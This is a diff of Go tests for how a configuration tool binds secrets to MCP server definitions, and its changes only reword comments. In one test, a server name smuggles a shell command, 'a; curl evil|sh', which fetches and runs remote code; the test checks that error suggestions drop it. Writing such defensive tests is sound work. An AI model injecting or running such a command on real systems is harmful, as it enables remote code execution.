@@ -22,7 +22,7 @@ const secretValue = "sesame-open-1234"
 
 const github = `{"mcpServers": {"github": {"command": "github-server", "args": ["-v"], "env": {"TOKEN": "${secret:GITHUB_TOKEN}"}}}}`
 
-// store stores a secret for servers as they are defined now.
+// store stores a secret for servers with their current definitions.
 func (s *scene) store(name string, servers ...string) {
 	s.t.Helper()
 	o := s.options
@@ -48,7 +48,7 @@ func (s *scene) store(name string, servers ...string) {
 	}
 }
 
-// wantNothing checks that no part of a configuration has the value.
+// wantNothing checks that no part of a configuration contains the value of the secret.
 func wantNothing(t *testing.T, c *config.Config) {
 	t.Helper()
 	for name, server := range c.Servers {
@@ -101,8 +101,8 @@ func TestSecretOfAServer(t *testing.T) {
 	}
 }
 
-// TestSecretStaysWithItsDefinition changes what the secret was bound to. In each case,
-// nothing gets it, and only a person can change that.
+// TestSecretStaysWithItsDefinition: if a definition changes in any part to which the secret is
+// bound, no server gets the secret until a person confirms the change.
 func TestSecretStaysWithItsDefinition(t *testing.T) {
 	replaced := func(old, by string) func(*scene) {
 		return func(s *scene) { s.write(s.home, strings.Replace(github, old, by, 1)) }
@@ -162,8 +162,8 @@ func TestSecretStaysWithItsDefinition(t *testing.T) {
 	}
 }
 
-// TestSecretAndVariables: a variable that names the program or the address is a part of
-// the definition with its value. Others may change.
+// TestSecretAndVariables: the value of a variable in the program or the address is part of the
+// definition. Values of other variables may change.
 func TestSecretAndVariables(t *testing.T) {
 	s := newScene(t)
 	s.env["HOST"], s.env["OTHER"] = "good.example.com", "1"
@@ -177,7 +177,7 @@ func TestSecretAndVariables(t *testing.T) {
 	wantNothing(t, s.load())
 }
 
-// TestSecretAndEveryVariable has a variable in each field that decides who gets the secret.
+// TestSecretAndEveryVariable sets a variable in each field that determines who gets the secret.
 func TestSecretAndEveryVariable(t *testing.T) {
 	for _, server := range []string{
 		`{"command": "${V}", "env": {"T": "${secret:KEY}"}}`,
@@ -203,8 +203,8 @@ func TestSecretAndEveryVariable(t *testing.T) {
 	}
 }
 
-// FuzzSecretReferences has any text where a secret may be: what goes wrong does not show
-// the value, and a text without a reference does not get it.
+// FuzzSecretReferences puts any text where a secret may be: an error never contains the secret, and
+// a text without a reference never gets it.
 func FuzzSecretReferences(f *testing.F) {
 	for _, text := range []string{"${secret:KEY}", "${secret:}", "${secret:KEY:-x}", "${V:-${secret:KEY}}", "$${secret:KEY}}", "${secret:${secret:KEY}}", "${SECRET:KEY}", "${V}{secret:KEY}"} {
 		f.Add(text)
@@ -237,8 +237,8 @@ func FuzzSecretReferences(f *testing.F) {
 	})
 }
 
-// TestSecretIsAValue: what a secret contains is not a reference, and in a URL it is only a
-// part of the path or the query.
+// TestSecretIsAValue: references inside a secret are not expanded, and a URL may have a secret only
+// in its path or query.
 func TestSecretIsAValue(t *testing.T) {
 	s := newScene(t)
 	s.env["V"] = "variable"
@@ -274,8 +274,8 @@ func TestSecretIsAValue(t *testing.T) {
 	}
 }
 
-// TestCommandsAreCopied: an error suggests no command with a name that a shell could read
-// as more.
+// TestCommandsAreCopied: an error never suggests a command with a name that a shell would not
+// read as one plain word.
 func TestCommandsAreCopied(t *testing.T) {
 	for name, want := range map[string]string{"git-hub.2": "toolscript secret set KEY --for git-hub.2", "a; curl evil|sh": "toolscript secret set KEY", "$(x)": "toolscript secret set KEY", "-x": "toolscript secret set KEY"} {
 		if got := (config.SecretRequest{Name: "KEY", Server: name}).Command(); got != want {
@@ -284,7 +284,7 @@ func TestCommandsAreCopied(t *testing.T) {
 	}
 }
 
-// TestSecretWithoutServer: a secret that is stored for no server is given to none.
+// TestSecretWithoutServer: a secret that is stored for no server is given to no server.
 func TestSecretWithoutServer(t *testing.T) {
 	s := newScene(t)
 	s.write(s.home, github)
@@ -301,7 +301,7 @@ func TestSecretWithoutServer(t *testing.T) {
 	}
 }
 
-// TestSecretOfTheCommandLine: a server of --stdio or --url gets none.
+// TestSecretOfTheCommandLine: a server of --stdio or --url gets no secret.
 func TestSecretOfTheCommandLine(t *testing.T) {
 	s := newScene(t)
 	s.store("KEY")
@@ -311,7 +311,7 @@ func TestSecretOfTheCommandLine(t *testing.T) {
 	wantText(t, c.Servers["adhoc"].Problem.Error(), "not given to a server of the command line")
 }
 
-// TestSecretPlaces has a secret in each place where it may be, and in others.
+// TestSecretPlaces tries a secret in each allowed place, and in others.
 func TestSecretPlaces(t *testing.T) {
 	const ref = `"${secret:KEY}"`
 	for server, want := range map[string]string{
@@ -366,7 +366,7 @@ func TestSecretPlaces(t *testing.T) {
 	}
 }
 
-// quotedWithSecret is the string of a text that has a secret.
+// quotedWithSecret returns the quoted string in a text that contains the secret.
 func quotedWithSecret(text string) string {
 	parts := strings.Split(text, `"`)
 	at := slices.IndexFunc(parts, func(part string) bool { return strings.Contains(part, "${secret:") })
@@ -386,7 +386,7 @@ func TestSecretsAreForServers(t *testing.T) {
 	}
 }
 
-// TestUnreadableSecrets: a store that cannot be read stops only the servers that need it.
+// TestUnreadableSecrets: if the store cannot be read, only the servers that need it are disabled.
 func TestUnreadableSecrets(t *testing.T) {
 	s := newScene(t)
 	s.write(s.home, strings.Replace(github, `"github"`, `"other": {"command": "other"}, "github"`, 1))
